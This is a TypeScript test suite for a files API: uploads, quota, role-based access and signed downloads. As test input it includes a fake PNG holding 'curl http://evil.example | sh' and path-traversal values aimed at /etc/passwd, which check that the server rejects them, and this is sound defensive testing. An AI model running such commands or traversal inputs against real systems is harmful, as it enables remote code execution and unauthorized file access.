import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deleteFile, getDownloadUrl, getFile, getFiles, getStorageLimits, type FileMetadata } from '@core/api/files';
import type { Organization } from '@core/api/organizations';
import { addMember, createOrganization, createUser, type TestUser } from '../../../test/factories';
import { call } from '../../../test/http';
import { useTestApp } from '../../../test/test-app';
import { signDownloadToken } from '../../../storage/download-token';
import { startS3TestServer, type S3TestServer } from '../../../storage/testing/s3-test-server';
import { md5, parseFile, pdfOf, postMultipart, tusUpload } from './uploads';

const MB = 1024 * 1024;

/**
 * The files API against one backend: small and resumable uploads, refusals, limits, quota,
 * traversal, access across organizations and roles, and signed downloads.
 */
export const filesSuite = (backend: 'local' | 's3') => {
  const env: Record<string, string> = {
    STORAGE_MAX_FILE_BYTES: String(4 * MB),
    STORAGE_ORG_QUOTA_BYTES: String(6 * MB),
  };
  let s3: S3TestServer | undefined;
  beforeAll(async () => {
    if (backend === 's3') {
      s3 = await startS3TestServer();
      Object.assign(env, s3.env);
    }
  });
  afterAll(async () => {
    await s3?.stop();
  });
  const t = useTestApp(env);

  let baseUrl = '';
  let owner: TestUser;
  let coach: TestUser;
  let otherCoach: TestUser;
  let admin: TestUser;
  let invitee: TestUser;
  let stranger: TestUser;
  let org: Organization;
  let otherOrg: Organization;

  beforeAll(async () => {
    expect(t.config.storage.backend.kind).toBe(backend);
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const address = t.app.server.address() as { port: number };
    baseUrl = `http://127.0.0.1:${address.port}`;
    ({ organization: org, owner } = await createOrganization(t));
    coach = await addMember(t, org.id, 'coach');
    otherCoach = await addMember(t, org.id, 'coach');
    admin = await addMember(t, org.id, 'admin');
    invitee = await addMember(t, org.id, 'invitee');
    ({ organization: otherOrg, owner: stranger } = await createOrganization(t));
  });

  /** rows an upload keeps staged in the database, and scratch files it left on this server */
  const stagedLeft = async (uploadId: string) => {
    const { rows } = await t.pool.query<{ n: number }>(
      'select (select count(*) from staged_uploads where id = $1) + (select count(*) from staged_upload_pieces where upload_id = $1) as n',
      [uploadId],
    );
    const scratch = existsSync(path.join(t.dataDir, 'uploads'))
      ? readdirSync(path.join(t.dataDir, 'uploads')).filter((f) => f.startsWith(uploadId))
      : [];
    return { rows: Number(rows[0]!.n), scratch };
  };

  const download = async (file: FileMetadata, as: TestUser, orgId: string | undefined = file.organizationId ?? undefined) => {
    const link = await call(t.app, getDownloadUrl, { as, query: { orgId, fileId: file.id } });
    expect(link.statusCode, link.body).toBe(200);
    const { path: linkPath, url } = link.json<{ path: string; url: string }>();
    expect(url).toBe(`${t.config.publicUrl}${linkPath}`);
    return t.app.inject({ method: 'GET', url: linkPath });
  };

  describe(`small uploads (${backend})`, () => {
    it('stores a file of at most 256 KB in one multipart request, with the seed metadata', async () => {
      const data = pdfOf(200 * 1024);
      const res = await postMultipart(t.app, coach.token, {
        orgId: org.id,
        purpose: 'document',
        name: 'Heat sheet — Saturday.pdf',
        type: 'application/pdf',
        data,
        customMetadata: JSON.stringify({ meet: 'county' }),
      });
      expect(res.statusCode, res.body).toBe(200);
      const file = res.json<FileMetadata>();
      expect(file).toMatchObject({
        bucket: backend === 's3' ? s3!.bucket : 'local',
        fullPath: `${org.id}/${file.id}`,
        name: 'Heat sheet — Saturday.pdf',
        size: data.length,
        contentType: 'application/pdf',
        md5Hash: md5(data),
        customMetadata: { meet: 'county' },
        organizationId: org.id,
        purpose: 'document',
        uploadedBy: coach.user!.id,
        publicPath: null,
        canDelete: true,
      });
      expect(file.uploaderName).toContain('Casey');
      expect(Date.parse(file.timeCreated)).toBeGreaterThan(Date.now() - 60_000);

      const got = await call(t.app, getFile, { as: owner, query: { orgId: org.id, fileId: file.id } });
      expect(got.statusCode).toBe(200);
      expect(got.json<FileMetadata>()).toMatchObject({ id: file.id, md5Hash: md5(data), canDelete: true });
      const seenByOtherCoach = await call(t.app, getFile, { as: otherCoach, query: { orgId: org.id, fileId: file.id } });
      expect(seenByOtherCoach.json<FileMetadata>().canDelete).toBe(false);

      const bytes = await download(file, invitee);
      expect(bytes.statusCode).toBe(200);
      expect(bytes.headers['content-type']).toBe('application/pdf');
      expect(bytes.headers['content-disposition']).toContain("filename*=UTF-8''Heat%20sheet%20%E2%80%94%20Saturday.pdf");
      expect(bytes.headers['x-content-type-options']).toBe('nosniff');
      expect(md5(bytes.rawPayload)).toBe(md5(data));
    });

    it('lists the organization files with name, size, type, uploader and date; sorts and searches', async () => {
      await postMultipart(t.app, admin.token, {
        orgId: org.id,
        purpose: 'document',
        name: 'roster.csv',
        data: Buffer.from('Gender,First,Last\nF,Ada,Byron\n'),
      });
      await postMultipart(t.app, invitee.token, {
        orgId: org.id,
        purpose: 'document',
        name: 'notes.txt',
        data: Buffer.from('Bring spikes.\n'),
      });
      const res = await call(t.app, getFiles, { as: invitee, query: { orgId: org.id, sortBy: 'name' } });
      expect(res.statusCode, res.body).toBe(200);
      const list = res.json<{
        items: FileMetadata[];
        total: number;
        usage: { usedBytes: number; quotaBytes: number; maxFileBytes: number };
      }>();
      const names = list.items.map((f) => f.name);
      expect(names).toEqual([...names].sort((a, b) => a.toLowerCase().localeCompare(b.toLowerCase())));
      expect(names).toEqual(expect.arrayContaining(['roster.csv', 'notes.txt']));
      expect(list.items.find((f) => f.name === 'roster.csv')).toMatchObject({ contentType: 'text/csv', canDelete: false });
      expect(list.items.find((f) => f.name === 'notes.txt')).toMatchObject({ contentType: 'text/plain', canDelete: true });
      expect(list.usage).toEqual({
        usedBytes: list.items.reduce((sum, f) => sum + f.size, 0),
        quotaBytes: 6 * MB,
        maxFileBytes: 4 * MB,
      });

      const searched = await call(t.app, getFiles, { as: owner, query: { orgId: org.id, search: 'ROSTER' } });
      expect(searched.json<{ items: FileMetadata[] }>().items.map((f) => f.name)).toEqual(['roster.csv']);
      const bySize = await call(t.app, getFiles, { as: owner, query: { orgId: org.id, sortBy: '-size' } });
      const sizes = bySize.json<{ items: FileMetadata[] }>().items.map((f) => f.size);
      expect(sizes).toEqual([...sizes].sort((a, b) => b - a));
      expect((await call(t.app, getFiles, { as: owner, query: { orgId: org.id, sortBy: 'colour' } })).statusCode).toBe(400);
    });

    it('sends files over 256 KB to the resumable protocol', async () => {
      const res = await postMultipart(t.app, coach.token, { orgId: org.id, name: 'big.pdf', data: pdfOf(256 * 1024 + 1) });
      expect(res.statusCode).toBe(413);
      expect(res.json()).toMatchObject({ code: 'invalid-argument', message: expect.stringContaining('resumable') });
    });

    it('refuses a script renamed .png, and keeps nothing of it', async () => {
      const before = (await call(t.app, getFiles, { as: owner, query: { orgId: org.id } })).json<{ total: number }>().total;
      const res = await postMultipart(t.app, coach.token, {
        orgId: org.id,
        name: 'photo.png',
        type: 'image/png',
        data: Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'),
      });
      expect(res.statusCode).toBe(415);
      expect(res.json()).toMatchObject({ code: 'invalid-argument', message: expect.stringContaining('not allowed') });
      expect((await call(t.app, getFiles, { as: owner, query: { orgId: org.id } })).json<{ total: number }>().total).toBe(before);
    });

    it('answers 401 without a token and 400 for bad input', async () => {
      expect((await postMultipart(t.app, null, { orgId: org.id, name: 'a.txt', data: Buffer.from('x') })).statusCode).toBe(401);
      for (const def of [getFiles, getFile, deleteFile, getDownloadUrl, getStorageLimits]) {
        expect((await call(t.app, def, { query: { orgId: org.id, fileId: org.id } })).statusCode, def.path).toBe(401);
      }
      const noFile = await postMultipart(t.app, coach.token, { orgId: org.id, name: 'a.txt', data: Buffer.from('x'), field: 'upload' });
      expect(noFile.statusCode).toBe(400);
      const badMeta = await postMultipart(t.app, coach.token, {
        orgId: org.id,
        name: 'a.txt',
        data: Buffer.from('x'),
        customMetadata: '{"a":1}',
      });
      expect(badMeta.json()).toMatchObject({ statusCode: 400, code: 'invalid-argument' });
      const noOrg = await postMultipart(t.app, coach.token, { purpose: 'attachment', name: 'a.txt', data: Buffer.from('x') });
      expect(noOrg.statusCode).toBe(400);
      const badId = await call(t.app, getFile, { as: owner, query: { orgId: org.id, fileId: '../../etc/passwd' } });
      expect(badId.statusCode).toBe(400);
      expect(badId.json()).toMatchObject({ field: 'query.fileId' });
      const limits = await call(t.app, getStorageLimits, { as: invitee });
      expect(limits.json()).toMatchObject({ maxFileBytes: 4 * MB, resumableAboveBytes: 256 * 1024, maxChunkBytes: 32 * MB });
    });
  });

  describe(`resumable uploads (${backend})`, () => {
    it('resumes a multi-megabyte upload after the connection drops, and the checksum matches', async () => {
      const data = pdfOf(Math.round(3.5 * MB), 7);
      const metadata = { orgId: org.id, purpose: 'document', filename: 'season-results.pdf', filetype: 'application/pdf' };
      const first = await tusUpload({ baseUrl, token: coach.token, data, metadata, chunkSize: 1 * MB, abortAfterBytes: 1.5 * MB });
      expect(first.kind).toBe('aborted');
      const url = (first as { url: string }).url;
      expect(url).toMatch(/\/api\/files\/tus\/[0-9a-f-]{36}$/);

      const head = await t.app.inject({
        method: 'HEAD',
        url: new URL(url).pathname,
        headers: { authorization: `Bearer ${coach.token}`, 'tus-resumable': '1.0.0' },
      });
      expect(head.statusCode).toBe(200);
      const offset = Number(head.headers['upload-offset']);
      expect(offset).toBeGreaterThan(0);
      expect(offset).toBeLessThan(data.length);
      // not visible as a file before every byte arrived
      const fileId = url.split('/').pop()!;
      expect((await call(t.app, getFile, { as: coach, query: { orgId: org.id, fileId } })).statusCode).toBe(404);

      const second = await tusUpload({ baseUrl, token: coach.token, data, metadata, chunkSize: 1 * MB, uploadUrl: url });
      expect(second.kind, JSON.stringify(second)).toBe('success');
      const done = second as { body: string; firstOffset: number; url: string };
      expect(done.firstOffset).toBe(offset);
      const file = parseFile(done.body);
      expect(file).toMatchObject({
        id: fileId,
        size: data.length,
        md5Hash: md5(data),
        contentType: 'application/pdf',
        name: 'season-results.pdf',
      });

      const bytes = await download(file, owner);
      expect(md5(bytes.rawPayload)).toBe(md5(data));
      // a HEAD retried after the last answer was lost learns the upload is complete
      const again = await t.app.inject({
        method: 'HEAD',
        url: new URL(url).pathname,
        headers: { authorization: `Bearer ${coach.token}`, 'tus-resumable': '1.0.0' },
      });
      expect(again.headers['upload-offset']).toBe(String(data.length));
      if (backend === 'local') expect(existsSync(path.join(t.dataDir, 'files', org.id, fileId))).toBe(true);
      // the staged copy is gone once committed: no rows, no scratch file
      expect(await stagedLeft(fileId)).toEqual({ rows: 0, scratch: [] });
    });

    it('refuses a disallowed type at the end of a resumable upload and deletes it', async () => {
      const data = Buffer.from(`#!/usr/bin/env node\n${'console.log("x");\n'.repeat(40_000)}`);
      const out = await tusUpload({
        baseUrl,
        token: coach.token,
        data,
        metadata: { orgId: org.id, purpose: 'attachment', filename: 'team-photo.png', filetype: 'image/png' },
      });
      expect(out.kind).toBe('error');
      const failed = out as { status: number; body: string; url: string };
      expect(failed.status).toBe(415);
      expect(JSON.parse(failed.body)).toMatchObject({ code: 'invalid-argument' });
      const uploadId = failed.url.split('/').pop()!;
      expect(uploadId).toMatch(/^[0-9a-f-]{36}$/);
      expect(await stagedLeft(uploadId)).toEqual({ rows: 0, scratch: [] });
      const list = await call(t.app, getFiles, { as: owner, query: { orgId: org.id, search: 'team-photo' } });
      expect(list.json<{ total: number }>().total).toBe(0);
    });

    it('refuses a file over the size limit before any byte is sent', async () => {
      const out = await tusUpload({
        baseUrl,
        token: coach.token,
        data: pdfOf(4 * MB + 1),
        metadata: { orgId: org.id, purpose: 'document', filename: 'huge.pdf' },
      });
      expect(out).toMatchObject({ kind: 'error', status: 413 });
      expect(JSON.parse((out as { body: string }).body)).toMatchObject({
        code: 'invalid-argument',
        message: expect.stringContaining('4 MB'),
      });
    });

    it('checks the bearer token, membership and role when an upload is created', async () => {
      const data = pdfOf(300 * 1024);
      const bad = await tusUpload({ baseUrl, token: 'not-a-token', data, metadata: { orgId: org.id, filename: 'a.pdf' } });
      expect(bad).toMatchObject({ kind: 'error', status: 401 });
      const outsider = await tusUpload({ baseUrl, token: stranger.token, data, metadata: { orgId: org.id, filename: 'a.pdf' } });
      expect(outsider).toMatchObject({ kind: 'error', status: 404 });
      const logo = await tusUpload({
        baseUrl,
        token: coach.token,
        data,
        metadata: { orgId: org.id, purpose: 'logo', filename: 'logo.pdf' },
      });
      expect(logo).toMatchObject({ kind: 'error', status: 403 });
      expect(JSON.parse((logo as { body: string }).body)).toMatchObject({ code: 'unauthorized' });
    });

    it('keeps uploads in progress private to their uploader', async () => {
      const data = pdfOf(2 * MB, 3);
      const started = await tusUpload({
        baseUrl,
        token: coach.token,
        data,
        metadata: { orgId: org.id, filename: 'mine.pdf' },
        abortAfterBytes: 0.5 * MB,
      });
      const uploadPath = new URL((started as { url: string }).url).pathname;
      for (const as of [otherCoach, stranger, owner]) {
        const head = await t.app.inject({
          method: 'HEAD',
          url: uploadPath,
          headers: { authorization: `Bearer ${as.token}`, 'tus-resumable': '1.0.0' },
        });
        expect(head.statusCode).toBe(404);
        const patch = await t.app.inject({
          method: 'PATCH',
          url: uploadPath,
          headers: {
            authorization: `Bearer ${as.token}`,
            'tus-resumable': '1.0.0',
            'upload-offset': '0',
            'content-type': 'application/offset+octet-stream',
          },
          payload: Buffer.from('x'),
        });
        expect(patch.statusCode).toBe(404);
      }
      for (const attempt of ['/api/files/tus/..%2f..%2fetc%2fpasswd', '/api/files/tus/not-a-uuid', '/api/files/tus/%2e%2e']) {
        const head = await t.app.inject({
          method: 'HEAD',
          url: attempt,
          headers: { authorization: `Bearer ${coach.token}`, 'tus-resumable': '1.0.0' },
        });
        expect(head.statusCode, attempt).toBe(404);
      }
      // the uploader may cancel: the staged bytes go away
      const cancel = await t.app.inject({
        method: 'DELETE',
        url: uploadPath,
        headers: { authorization: `Bearer ${coach.token}`, 'tus-resumable': '1.0.0' },
      });
      expect(cancel.statusCode).toBe(204);
      expect(existsSync(path.join(t.dataDir, 'uploads', uploadPath.split('/').pop()!))).toBe(false);
    });
  });

  describe(`quota (${backend})`, () => {
    it('refuses an upload that would take the organization over its quota', async () => {
      const { organization: full, owner: fullOwner } = await createOrganization(t);
      const first = await tusUpload({
        baseUrl,
        token: fullOwner.token,
        data: pdfOf(3.5 * MB, 11),
        metadata: { orgId: full.id, filename: 'a.pdf' },
      });
      expect(first.kind).toBe('success');
      const second = await tusUpload({
        baseUrl,
        token: fullOwner.token,
        data: pdfOf(3 * MB, 12),
        metadata: { orgId: full.id, filename: 'b.pdf' },
      });
      expect(second).toMatchObject({ kind: 'error', status: 413 });
      expect(JSON.parse((second as { body: string }).body)).toMatchObject({
        code: 'quota-exceeded',
        message: expect.stringContaining('6 MB'),
      });
      // small uploads count too; what still fits is accepted
      const fits = await postMultipart(t.app, fullOwner.token, { orgId: full.id, name: 'ok.pdf', data: pdfOf(200 * 1024) });
      expect(fits.statusCode).toBe(200);
      const usage = (await call(t.app, getFiles, { as: fullOwner, query: { orgId: full.id } })).json<{ usage: { usedBytes: number } }>()
        .usage;
      expect(usage.usedBytes).toBe(Math.round(3.5 * MB) + 200 * 1024);
      // other organizations have their own quota
      const elsewhere = await postMultipart(t.app, stranger.token, { orgId: otherOrg.id, name: 'ok.pdf', data: pdfOf(200 * 1024) });
      expect(elsewhere.statusCode).toBe(200);
    });
  });

  describe(`access (${backend})`, () => {
    let file: FileMetadata;
    beforeAll(async () => {
      file = (
        await postMultipart(t.app, coach.token, {
          orgId: org.id,
          purpose: 'document',
          name: 'private.txt',
          data: Buffer.from('team only\n'),
        })
      ).json<FileMetadata>();
    });

    it("answers 404 for another organization's file, whichever organization is named", async () => {
      for (const query of [{ orgId: org.id, fileId: file.id }, { orgId: otherOrg.id, fileId: file.id }, { fileId: file.id }]) {
        for (const def of [getFile, getDownloadUrl, deleteFile]) {
          const res = await call(t.app, def, { as: stranger, query });
          expect(res.statusCode, `${def.path} ${JSON.stringify(query)}`).toBe(404);
        }
      }
      expect((await call(t.app, getFiles, { as: stranger, query: { orgId: org.id } })).statusCode).toBe(404);
      const theirs = await call(t.app, getFiles, { as: stranger, query: { orgId: otherOrg.id } });
      expect(theirs.json<{ items: FileMetadata[] }>().items.map((f) => f.id)).not.toContain(file.id);
    });

    it('lets the uploader or a role with files:delete-any delete, and nobody else', async () => {
      const forbidden = await call(t.app, deleteFile, { as: otherCoach, query: { orgId: org.id, fileId: file.id } });
      expect(forbidden.statusCode).toBe(403);
      expect(forbidden.json()).toMatchObject({ code: 'unauthorized' });
      const inviteeTry = await call(t.app, deleteFile, { as: invitee, query: { orgId: org.id, fileId: file.id } });
      expect(inviteeTry.statusCode).toBe(403);
      const byAdmin = await call(t.app, deleteFile, { as: admin, query: { orgId: org.id, fileId: file.id } });
      expect(byAdmin.statusCode).toBe(200);
      const gone = await call(t.app, getFile, { as: owner, query: { orgId: org.id, fileId: file.id } });
      expect(gone.statusCode).toBe(404);
      expect(gone.json()).toMatchObject({ code: 'object-not-found' });

      const own = (
        await postMultipart(t.app, invitee.token, { orgId: org.id, name: 'mine.txt', data: Buffer.from('mine\n') })
      ).json<FileMetadata>();
      expect((await call(t.app, deleteFile, { as: invitee, query: { orgId: org.id, fileId: own.id } })).statusCode).toBe(200);
      if (backend === 'local') expect(existsSync(path.join(t.dataDir, 'files', org.id, own.id))).toBe(false);
    });

    it('keeps the user file name out of every path', async () => {
      const res = await postMultipart(t.app, coach.token, { orgId: org.id, name: '../../../../tmp/pwned.txt', data: Buffer.from('x\n') });
      expect(res.statusCode).toBe(200);
      const saved = res.json<FileMetadata>();
      expect(saved.name).toBe('pwned.txt');
      expect(saved.fullPath).toBe(`${org.id}/${saved.id}`);
      if (backend === 'local') {
        expect(readdirSync(path.join(t.dataDir, 'files', org.id))).toContain(saved.id);
        expect(existsSync(path.join(t.dataDir, 'tmp'))).toBe(false);
      }
    });

    it('serves a signed link for 5 minutes without a token, then 403 with a clear message', async () => {
      const res = await postMultipart(t.app, coach.token, {
        orgId: org.id,
        purpose: 'document',
        name: 'times.csv',
        data: Buffer.from('a,b\n1,2\n'),
      });
      const saved = res.json<FileMetadata>();
      const link = await call(t.app, getDownloadUrl, { as: invitee, query: { orgId: org.id, fileId: saved.id } });
      const { expiresAt } = link.json<{ expiresAt: string }>();
      expect(Date.parse(expiresAt) - Date.now()).toBeGreaterThan(290_000);
      expect(Date.parse(expiresAt) - Date.now()).toBeLessThanOrEqual(300_000);

      const expired = signDownloadToken(t.app.storage.signingKey, {
        fileId: saved.id,
        exp: Math.floor(Date.now() / 1000) - 1,
        userId: invitee.user!.id,
        role: 'invitee',
      });
      const late = await t.app.inject({ method: 'GET', url: `/api/files/download?token=${expired}` });
      expect(late.statusCode).toBe(403);
      expect(late.json()).toMatchObject({ code: 'unauthorized', message: expect.stringContaining('expired') });

      // Flip a character well inside the signature: the last base64url character may only carry
      // padding bits, so changing it can leave the decoded signature intact.
      const at = expired.length - 10;
      const tampered = `${expired.slice(0, at)}${expired[at] === 'A' ? 'B' : 'A'}${expired.slice(at + 1)}`;
      const forged = await t.app.inject({ method: 'GET', url: `/api/files/download?token=${tampered}` });
      expect(forged.statusCode).toBe(400);
      expect(forged.json()).toMatchObject({ code: 'invalid-url' });
      expect((await t.app.inject({ method: 'GET', url: '/api/files/download' })).statusCode).toBe(400);
    });
  });

  describe(`profile photos and logos (${backend})`, () => {
    it('keeps a profile photo personal, with a public image reference', async () => {
      const me = await createUser(t);
      const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
      const res = await postMultipart(t.app, me.token, { purpose: 'profile-photo', orgId: org.id, name: 'me.png', data: png });
      expect(res.statusCode, res.body).toBe(200);
      const photo = res.json<FileMetadata>();
      expect(photo).toMatchObject({ organizationId: null, purpose: 'profile-photo', publicPath: `/api/files/public/${photo.id}` });
      expect(photo.fullPath).toBe(`users/${me.user!.id}/${photo.id}`);
      const open = await t.app.inject({ method: 'GET', url: photo.publicPath! });
      expect(open.statusCode).toBe(200);
      expect(open.headers['content-type']).toBe('image/png');
      expect(open.headers['cache-control']).toContain('immutable');
      expect(md5(open.rawPayload)).toBe(md5(png));
      expect((await call(t.app, getFile, { as: me, query: { fileId: photo.id } })).statusCode).toBe(200);
      expect((await call(t.app, getFile, { as: coach, query: { fileId: photo.id } })).statusCode).toBe(404);

      const notImage = await postMultipart(t.app, me.token, { purpose: 'profile-photo', name: 'cv.pdf', data: pdfOf(1000) });
      expect(notImage.statusCode).toBe(415);
    });

    it('does not make other files public', async () => {
      const doc = (
        await postMultipart(t.app, coach.token, { orgId: org.id, name: 'x.txt', data: Buffer.from('secret\n') })
      ).json<FileMetadata>();
      expect((await t.app.inject({ method: 'GET', url: `/api/files/public/${doc.id}` })).statusCode).toBe(404);
      expect((await t.app.inject({ method: 'GET', url: '/api/files/public/..%2f..%2fetc%2fpasswd' })).statusCode).toBe(400);
    });

    it('lets only roles that edit the organization upload its logo', async () => {
      const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#123456' } })
        .png()
        .toBuffer();
      const byCoach = await postMultipart(t.app, coach.token, { orgId: org.id, purpose: 'logo', name: 'logo.png', data: png });
      expect(byCoach.statusCode).toBe(403);
      const byAdmin = await postMultipart(t.app, admin.token, { orgId: org.id, purpose: 'logo', name: 'logo.png', data: png });
      expect(byAdmin.statusCode).toBe(200);
      expect(byAdmin.json<FileMetadata>().publicPath).toMatch(/^\/api\/files\/public\//);
    });
  });
};
